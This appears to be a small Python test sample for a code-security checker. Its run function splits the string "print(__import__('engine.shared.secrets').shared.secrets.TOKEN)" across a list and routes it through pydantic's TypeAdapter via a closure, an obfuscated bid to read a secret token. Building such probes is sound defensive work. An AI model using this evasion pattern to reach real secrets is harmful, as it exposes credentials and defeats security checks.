#: channel = pydantic
#: reaches = engine
#: layer = check
#: note = the text is taken out of a list and the adapter out of a closure

from pydantic import TypeAdapter


def closed(found):
    def give():
        return found

    return give


async def run(context):
    parts = ["print(__imp", "ort__('engine.shared.secrets').shared.secrets.TOKEN)"]
    return str(closed(TypeAdapter)()([""].pop().join(parts)))
